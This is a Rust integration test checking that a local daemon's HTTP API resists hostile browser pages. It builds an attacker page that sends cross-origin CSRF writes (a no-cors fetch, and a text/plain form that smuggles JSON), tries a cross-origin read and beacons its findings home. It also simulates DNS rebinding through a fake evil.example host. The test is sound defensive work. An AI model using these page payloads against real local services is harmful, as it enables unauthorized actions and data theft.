//! A hostile page in a real browser (headless Chromium, as tests/status_page.rs runs it)
//! against the real daemon and the real simulator: a page from another origin
//! (`http://127.0.0.2:PORT/`, served by this test) tries the writes a browser lets any page
//! send without a CORS preflight (a `no-cors` fetch with a text/plain body, a text/plain form
//! and a form-encoded form, all auto-submitted) and a cross-origin read; then the browser
//! navigates as a DNS-rebinding attack would after its flip (a name of the attacker resolving
//! to 127.0.0.1, mapped with `--host-resolver-rules`). Nothing reaches Apple (the
//! simulator's stats), the page learns nothing, and the daemon's log shows the 401s and the
//! 421. Chromium is required: this test fails (never skips) without it.

mod common;

use std::path::Path;
use std::process::{Child, Command, Stdio};
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};

use common::{EnvOptions, Sim, TestEnv};
use serde_json::{json, Value};

const CHROMIUM: &str = "/usr/bin/chromium";

fn chromium(profile: &Path, args: &[String], url: &str, out: &Path) -> Child {
    assert!(
        Path::new(CHROMIUM).exists(),
        "{CHROMIUM} is missing: this test needs Chromium. `.ci/run` installs it \
         (apt-get install -y --no-install-recommends chromium)"
    );
    Command::new(CHROMIUM)
        .args([
            "--headless",
            "--no-sandbox",
            "--disable-gpu",
            "--disable-quic",
            "--no-first-run",
            "--disable-background-networking",
            "--disable-component-update",
            "--disable-sync",
        ])
        .arg(format!("--user-data-dir={}", profile.display()))
        .args(args)
        .arg(url)
        .stdin(Stdio::null())
        .stdout(Stdio::from(std::fs::File::create(out).unwrap()))
        .stderr(Stdio::null())
        .spawn()
        .expect("start chromium")
}

/// Waits for `child` to exit within `within`, killing it otherwise; whether it exited.
fn wait_exit(child: &mut Child, within: Duration) -> bool {
    let start = Instant::now();
    loop {
        if child.try_wait().unwrap().is_some() {
            return true;
        }
        if start.elapsed() > within {
            let _ = child.kill();
            let _ = child.wait();
            return false;
        }
        std::thread::sleep(Duration::from_millis(100));
    }
}

/// The attacker's page: every write it can make without a preflight, then a cross-origin
/// read, then a beacon home with what it saw.
fn evil_page(api: &str) -> String {
    let route = format!("{api}/v1/tokens/acme/requests/associate");
    let body =
        r#"{"assets":[{"adamId":"361304891","pricingParam":"STDQ"}],"serialNumbers":["EVIL-1"]}"#;
    // A text/plain form body is `name=value`: split the JSON at a `=` inside a string.
    let (name, value) = (
        r#"{"assets":[{"adamId":"361304891","pricingParam":"STDQ"}],"serialNumbers":["EVIL-2"],"x":""#,
        r#""}"#,
    );
    format!(
        r#"<!doctype html><html><head><title>evil</title></head><body>
<iframe name="f1"></iframe><iframe name="f2"></iframe>
<form id="text" target="f1" method="POST" enctype="text/plain" action="{route}"><input name='{name}' value='{value}'></form>
<form id="urlenc" target="f2" method="POST" action="{route}"><input name="serialNumbers" value="EVIL-3"></form>
<script>
async function run() {{
  const seen = [];
  try {{
    await fetch("{route}", {{method: "POST", mode: "no-cors", credentials: "include",
      headers: {{"Content-Type": "text/plain"}}, body: {body:?}}});
    seen.push("nocors-sent");
  }} catch (e) {{ seen.push("nocors-error"); }}
  try {{
    await fetch("{api}/v1/events", {{method: "POST", mode: "no-cors", credentials: "include",
      body: '{{"token":"acme","eventId":"evil-1","type":"ASSOCIATE"}}'}});
    seen.push("track-sent");
  }} catch (e) {{ seen.push("track-error"); }}
  try {{
    const r = await fetch("{api}/v1/tokens/acme/users");
    seen.push("read-" + r.status + "-" + (await r.text()).length);
  }} catch (e) {{ seen.push("read-blocked"); }}
  for (const id of ["text", "urlenc"]) {{
    const form = document.getElementById(id);
    const frame = document.querySelector("iframe[name=" + form.target + "]");
    await new Promise(done => {{ frame.onload = done; form.submit(); setTimeout(done, 10000); }});
    seen.push(id + "-submitted");
  }}
  await fetch("/beacon?" + encodeURIComponent(seen.join(",")));
  document.title = "done";
}}
run();
</script></body></html>"#
    )
}

/// The attacker's server on 127.0.0.2 (another origin than the API's 127.0.0.1): the page,
/// and `/beacon` recording what the page reports.
async fn evil_server(api: String, beacons: Arc<Mutex<Vec<String>>>) -> std::net::SocketAddr {
    use axum::extract::RawQuery;
    use axum::response::Html;
    let page = evil_page(&api);
    let app = axum::Router::new()
        .route("/", axum::routing::get(move || async move { Html(page) }))
        .route(
            "/beacon",
            axum::routing::get(move |RawQuery(q): RawQuery| async move {
                let q = q.unwrap_or_default();
                let text = percent_encoding::percent_decode_str(&q)
                    .decode_utf8_lossy()
                    .into_owned();
                beacons.lock().unwrap().push(text);
                axum::http::StatusCode::NO_CONTENT
            }),
        );
    let listener = tokio::net::TcpListener::bind("127.0.0.2:0")
        .await
        .expect("bind 127.0.0.2 (loopback, another origin)");
    let addr = listener.local_addr().unwrap();
    tokio::spawn(async move {
        let _ = axum::serve(listener, app).await;
    });
    addr
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_foreign_page_cannot_write_or_read_through_the_browser() {
    assert!(
        Path::new(CHROMIUM).exists(),
        "{CHROMIUM} is missing: `.ci/run` installs Debian's chromium"
    );
    let sim = Sim::start(7);
    let loc = sim
        .post(
            "/_sim/locations",
            &json!({"name": "Acme", "pageSize": 50,
                "users": [{"clientUserId": "u1", "email": "u1@example.com"}],
                "assets": [{"adamId": "361304891", "pricingParam": "STDQ", "productType": "App",
                    "total": 10, "deviceAssignable": true, "revocable": true}]}),
        )
        .await;
    let uid = loc["uId"].as_str().expect("uId").to_string();
    let env = TestEnv::new(EnvOptions {
        apple_base_url: Some(sim.base.clone()),
        stokens: vec![loc["sToken"].as_str().expect("sToken").to_string()],
        reconcile: "notification_grace = \"1h\"",
        ..Default::default()
    });
    let daemon = env.start_daemon();
    // The mirror holds the user (so a successful read would show the address).
    let start = Instant::now();
    loop {
        let v: Value = env
            .http()
            .get(env.api_url("/v1/tokens/acme/users"))
            .send()
            .await
            .unwrap()
            .json()
            .await
            .unwrap();
        if v.to_string().contains("u1@example.com") {
            break;
        }
        assert!(
            start.elapsed() < Duration::from_secs(30),
            "users not synced: {v}"
        );
        tokio::time::sleep(Duration::from_millis(100)).await;
    }

    let beacons = Arc::new(Mutex::new(Vec::new()));
    let evil = evil_server(format!("http://{}", env.api), beacons.clone()).await;
    let tmp = tempfile::tempdir().unwrap();
    let mut browser = chromium(
        &tmp.path().join("profile-evil"),
        &["--dump-dom".into(), "--virtual-time-budget=60000".into()],
        &format!("http://{evil}/"),
        &tmp.path().join("evil.html"),
    );
    // Bounded wait on the page's beacon.
    let start = Instant::now();
    let report = loop {
        if let Some(b) = beacons.lock().unwrap().first().cloned() {
            break b;
        }
        if start.elapsed() > Duration::from_secs(90) {
            let _ = browser.kill();
            panic!(
                "no beacon from the page within 90 s; DOM:\n{}\ndaemon log:\n{}",
                std::fs::read_to_string(tmp.path().join("evil.html")).unwrap_or_default(),
                daemon.log_text()
            );
        }
        tokio::time::sleep(Duration::from_millis(100)).await;
    };
    wait_exit(&mut browser, Duration::from_secs(30));
    eprintln!("the page reports: {report}");
    // The page ran every attempt; its cross-origin read got nothing to read.
    for step in [
        "nocors-sent",
        "track-sent",
        "text-submitted",
        "urlenc-submitted",
    ] {
        assert!(report.contains(step), "{step} in {report:?}");
    }
    assert!(
        report.contains("read-blocked"),
        "the read is refused: {report:?}"
    );

    // After the flip, a rebinding name resolves to the API: the browser sends its Host.
    let rebind = format!(
        "http://rebind.evil.example:{}/v1/tokens/acme/users",
        env.api.port()
    );
    let out = tmp.path().join("rebind.html");
    let mut browser = chromium(
        &tmp.path().join("profile-rebind"),
        &[
            "--dump-dom".into(),
            "--host-resolver-rules=MAP rebind.evil.example 127.0.0.1".into(),
        ],
        &rebind,
        &out,
    );
    assert!(
        wait_exit(&mut browser, Duration::from_secs(90)),
        "chromium --dump-dom hung"
    );
    let dom = std::fs::read_to_string(&out).unwrap();
    assert!(dom.contains("misdirected_request"), "{dom}");
    assert!(!dom.contains("u1@example.com"), "{dom}");

    // Nothing reached Apple and nothing was tracked.
    let stats = sim.get("/_sim/stats").await;
    let requests = &stats["tokens"][&uid]["requests"];
    assert!(
        requests["associateAssets"].as_u64().unwrap_or(0) == 0,
        "{stats}"
    );
    let (status, events) = {
        let r = env
            .http()
            .get(env.api_url("/v1/events"))
            .send()
            .await
            .unwrap();
        (r.status().as_u16(), r.json::<Value>().await.unwrap())
    };
    assert_eq!(status, 200);
    assert_eq!(events["events"], json!([]), "{events}");
    // The daemon saw the attempts and refused each: 401 (no token) and the 421.
    let log = daemon.log_text();
    let refused = |status: u16, path: &str| {
        log.lines()
            .filter(|l| {
                l.contains("local API request refused")
                    && l.contains(&format!("\"status\":{status}"))
                    && l.contains(&format!("\"path\":\"{path}\""))
            })
            .count()
    };
    assert!(
        refused(401, "/v1/tokens/acme/requests/associate") >= 3,
        "{log}"
    );
    assert!(refused(401, "/v1/events") >= 1, "{log}");
    assert!(refused(401, "/v1/tokens/acme/users") >= 1, "{log}");
    assert!(refused(421, "/v1/tokens/acme/users") >= 1, "{log}");
    assert!(!log.contains(&env.token()));
}
